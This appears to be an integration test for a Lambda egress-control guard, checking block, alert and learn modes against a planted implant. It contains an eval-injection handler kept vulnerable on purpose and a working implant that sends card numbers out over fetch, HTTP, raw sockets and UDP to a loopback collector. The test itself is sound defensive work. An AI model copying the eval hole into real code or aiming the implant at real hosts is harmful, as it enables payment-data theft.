/**
 * The egress control end to end: real runtime processes (aws-lambda-ric) in the lab, the guard
 * installed through NODE_OPTIONS=--require (register mode), a function with an eval injection and
 * a DynamoDB client (AWS SDK v3). An implant planted through the injection exfiltrates every later
 * card to a collector on loopback with fetch, http.request, a raw socket and a UDP datagram.
 *
 * AWS itself cannot be reached here (no network): DynamoDB is a local fake on 127.0.0.1 that the
 * client reaches through its `endpoint` configuration, allowed by an `egress.allow` entry. That
 * regional names (`dynamodb.<region>.amazonaws.com`) pass the default list is shown in-process in
 * egress.test.ts with a faked DNS answer.
 */
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { createLab, type InvokeResult, type Lab } from '@ephemera/lab';
import { collectLogs, eventually, REGISTER, sleep } from './helpers.mjs';

const REPO_ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const CARD = '4111111111111111';

/** The function: an eval of the request body (the vulnerability), then a DynamoDB call. */
function writeFunction(dir: string): void {
  writeFileSync(
    join(dir, 'index.mjs'),
    `import { createRequire } from 'node:module';
const require = createRequire(${JSON.stringify(join(REPO_ROOT, 'package.json'))});
const { DynamoDBClient, ListTablesCommand } = require('@aws-sdk/client-dynamodb');
globalThis.require = require; // what a CommonJS handler's eval would see in scope
const client = new DynamoDBClient({
  region: process.env.AWS_REGION,
  endpoint: process.env.DYNAMODB_ENDPOINT,
  maxAttempts: 1,
  credentials: { accessKeyId: 'AKIDLAB', secretAccessKey: 'lab-secret' },
});
export const handler = async (event) => {
  // biome-ignore lint/security/noGlobalEval: the vulnerability under test
  const input = event.body ? eval('(' + event.body + ')') : {};
  const { TableNames } = await client.send(new ListTablesCommand({}));
  process.emit('payment', { card: input?.card ?? null });
  return { statusCode: 200, body: JSON.stringify({ tables: TableNames, last4: String(input?.card ?? '').slice(-4) }) };
};
`,
  );
}

/** The implant the attack request plants: four channels, every error swallowed (as implants do). */
function implant(collector: number, udp: number): string {
  return `(function(){
  const http = require('node:http'), net = require('node:net'), dgram = require('node:dgram');
  process.on('payment', (p) => {
    const data = JSON.stringify(p);
    fetch('http://127.0.0.1:${collector}/fetch', { method: 'POST', body: data }).catch(() => {});
    const req = http.request({ host: '127.0.0.1', port: ${collector}, path: '/http', method: 'POST', agent: false });
    req.on('error', () => {}); req.end(data);
    const s = net.connect(${collector}, '127.0.0.1', () => s.end('POST /net HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: ' + data.length + '\\r\\nconnection: close\\r\\n\\r\\n' + data));
    s.on('error', () => {});
    const u = dgram.createSocket('udp4');
    u.send(data, ${udp}, '127.0.0.1', () => u.close());
    u.on('error', () => {});
  });
  return {};
})()`;
}

describe('egress in the lab with the real aws-lambda-ric', () => {
  let lab: Lab;
  let logs: ReturnType<typeof collectLogs>;
  let collector: Server;
  let dynamodb: Server;
  let udp: dgram.Socket;
  const stolen: string[] = [];
  let ddbCalls = 0;
  let collectorPort = 0;
  let udpPort = 0;

  const http = (body: string, ip: string) => ({
    version: '2.0',
    body,
    requestContext: { requestId: `r-${ip}`, http: { sourceIp: ip } },
  });
  const json = (r: InvokeResult) => JSON.parse(JSON.parse(r.payload.toString('utf8')).body as string);

  before(async () => {
    collector = createServer((req, res) => {
      let body = '';
      req.on('data', (c) => (body += c));
      req.on('end', () => {
        stolen.push(`${req.url} ${body}`);
        res.end('thanks');
      });
    });
    dynamodb = createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        ddbCalls++;
        assert.equal(req.headers['x-amz-target'], 'DynamoDB_20120810.ListTables');
        res.writeHead(200, { 'content-type': 'application/x-amz-json-1.0' }).end('{"TableNames":["orders"]}');
      });
    });
    udp = dgram.createSocket('udp4', (msg) => stolen.push(`udp ${msg}`));
    await Promise.all([
      new Promise<void>((r) => collector.listen(0, '127.0.0.1', () => r())),
      new Promise<void>((r) => dynamodb.listen(0, '127.0.0.1', () => r())),
      new Promise<void>((r) => udp.bind(0, '127.0.0.1', () => r())),
    ]);
    collectorPort = (collector.address() as AddressInfo).port;
    udpPort = udp.address().port;
    const ddb = `127.0.0.1:${(dynamodb.address() as AddressInfo).port}`;
    const codeDir = mkdtempSync(join(tmpdir(), 'ephemera-egress-fn-'));
    writeFunction(codeDir);
    const fn = (name: string, environment: Record<string, string>) => ({
      name,
      codeDir,
      handler: 'index.handler',
      timeoutSeconds: 10,
      environment: {
        NODE_OPTIONS: `--require ${REGISTER}`,
        DYNAMODB_ENDPOINT: `http://${ddb}`,
        EPHEMERA_EGRESS_ALLOW: `*.amazonaws.com,${ddb}`,
        EPHEMERA_MAX_INVOCATIONS: 'off',
        EPHEMERA_MAX_AGE_SECONDS: 'off',
        ...environment,
      },
    });
    // The injection must run and the implant must stay for egress to be what stops it.
    const implantable = { EPHEMERA_CODEGEN: 'off', EPHEMERA_INTEGRITY: 'off', EPHEMERA_FIREWALL: 'off' };
    lab = await createLab({
      functions: [
        fn('egress-block', { ...implantable, EPHEMERA_EGRESS: 'block' }),
        fn('egress-alert', { ...implantable, EPHEMERA_EGRESS: 'alert' }),
        fn('egress-learn', { ...implantable, EPHEMERA_EGRESS: 'learn' }),
        // The default policy (every control on, integrity recycles) with egress blocking: an honest
        // function must see no detection, no recycle and no egress event.
        fn('honest', {}),
      ],
    });
    logs = collectLogs(lab);
  });

  after(async () => {
    await lab?.close();
    for (const server of [collector, dynamodb]) {
      server.closeAllConnections();
      server.close();
    }
    udp.close();
  });

  /** Warm, attack, then a victim in the same environment; returns the three results. */
  async function scenario(fn: string): Promise<[InvokeResult, InvokeResult, InvokeResult]> {
    const warm = await lab.invoke(fn, http('{"card":"4000000000000002"}', '198.51.100.1'));
    assert.equal(warm.outcome, 'success', warm.error?.errorMessage);
    await eventually(() => lab.environments(fn).some((e) => e.state === 'idle'), 'warm environment idle');
    const attack = await lab.invoke(fn, http(implant(collectorPort, udpPort), '203.0.113.66'));
    assert.equal(attack.outcome, 'success', attack.error?.errorMessage);
    await eventually(
      () => lab.environments(fn).some((e) => e.id === attack.environmentId && e.state === 'idle'),
      'attacked environment idle',
    );
    const victim = await lab.invoke(fn, http(`{"card":"${CARD}"}`, '198.51.100.2'));
    assert.equal(victim.outcome, 'success', victim.error?.errorMessage);
    assert.equal(
      victim.environmentId,
      attack.environmentId,
      'the implant and the victim share the environment',
    );
    return [warm, attack, victim];
  }

  it('block: the implant’s fetch, http, net and dgram exfiltration is refused, and the function still answers', async () => {
    const before = stolen.length;
    const [, attack, victim] = await scenario('egress-block');
    assert.deepEqual(
      json(victim),
      { tables: ['orders'], last4: '1111' },
      'the SDK call (allowed) and the answer',
    );
    await sleep(300);
    assert.deepEqual(stolen.slice(before), [], 'nothing reached the collector');
    await eventually(
      () =>
        logs.guard('egress-block').filter((e) => e.type === 'block' && e.requestId === victim.requestId)
          .length >= 2,
      'block events for the victim invocation',
    );
    const blocks = logs.guard('egress-block').filter((e) => e.type === 'block');
    assert.ok(blocks.every((e) => e.control === 'egress' && e.action === 'block'));
    for (const request of [attack, victim]) {
      const mine = blocks.filter((e) => e.requestId === request.requestId);
      const apis = new Set(mine.map((e) => e.detail.api));
      for (const api of ['net', 'dgram.send']) assert.ok(apis.has(api), `${api} blocked in ${[...apis]}`);
      for (const e of mine) {
        assert.deepEqual(e.detail.destination, {
          host: '127.0.0.1',
          port: e.detail.api === 'dgram.send' ? udpPort : collectorPort,
          ip: '127.0.0.1',
        });
        assert.equal(e.detail.reason, 'not-allowed');
      }
    }
    assert.equal(
      blocks.find((e) => e.requestId === victim.requestId)?.detail.sourceIp,
      '198.51.100.2',
      'the invocation whose data it was',
    );
    assert.doesNotMatch(
      JSON.stringify(logs.guard('egress-block')),
      new RegExp(CARD),
      'no payload in any event',
    );
    assert.ok(ddbCalls >= 3, 'DynamoDB was reached through the allow-list');
  });

  it('alert: the same implant gets through (the test can fail) and every channel is reported', async () => {
    const before = stolen.length;
    const [, , victim] = await scenario('egress-alert');
    // The environment is frozen once the response is out; one more invocation thaws the implant's sends.
    await lab.invoke('egress-alert', http('{"card":"4000000000000003"}', '198.51.100.3'));
    await eventually(() => {
      const channels = stolen
        .slice(before)
        .filter((s) => s.includes(CARD))
        .map((s) => s.split(' ')[0]);
      return ['/fetch', '/http', '/net', 'udp'].every((c) => channels.includes(c));
    }, 'all four channels delivered the victim card');
    const alerts = logs
      .guard('egress-alert')
      .filter((e) => e.type === 'alert' && e.requestId === victim.requestId);
    const apis = new Set(alerts.map((e) => e.detail.api));
    for (const api of ['net', 'http', 'dgram.send'])
      assert.ok(apis.has(api), `${api} alerted in ${[...apis]}`);
  });

  it('learn: destinations are recorded as events and as a suggested policy fragment in /tmp', async () => {
    const result = await lab.invoke('egress-learn', http('{"card":"4000000000000002"}', '198.51.100.1'));
    assert.equal(result.outcome, 'success');
    const env = lab.environments('egress-learn').find((e) => e.id === result.environmentId);
    assert.ok(env);
    const file = join(env.tmpDir, 'ephemera-egress-learned.json');
    await eventually(() => existsSync(file), 'learned file written after the response');
    const ddb = (dynamodb.address() as AddressInfo).port;
    assert.deepEqual(JSON.parse(readFileSync(file, 'utf8')), { egress: { allow: [`127.0.0.1:${ddb}`] } });
    const learned = logs.guard('egress-learn').filter((e) => (e.type as string) === 'learn');
    assert.deepEqual(
      learned.map((e) => [e.control, e.action, e.detail.suggestion]),
      [['egress', 'learn', `127.0.0.1:${ddb}`]],
    );
  });

  it('an honest function under the default policy: no egress event, no detection, no recycle; the Runtime API is always allowed', async () => {
    for (let i = 0; i < 5; i++) {
      const r = await lab.invoke('honest', http(`{"card":"40000000000000${10 + i}"}`, '198.51.100.9'));
      assert.equal(r.outcome, 'success', r.error?.errorMessage);
    }
    await eventually(() => lab.environments('honest').every((e) => e.state === 'idle'), 'honest idle');
    await sleep(200);
    const lines = logs.guard('honest');
    const init = lines.find((e) => e.type === 'init');
    assert.ok(init);
    const info = (init.detail.controlInfo as Record<string, { alwaysAllowed?: string[]; hooked?: string[] }>)
      .egress;
    const runtimeApi = lab.environments('honest')[0]?.runtimeApi;
    assert.ok(info?.alwaysAllowed?.includes(`runtime ${runtimeApi}`), JSON.stringify(info));
    assert.ok(info?.hooked?.includes('net.Socket.prototype.connect'));
    assert.deepEqual(
      lines
        .filter((e) => e.type !== 'init')
        .map((e) => ({ type: e.type, control: e.control, detail: e.detail })),
      [],
      'no event at all besides init',
    );
  });
});
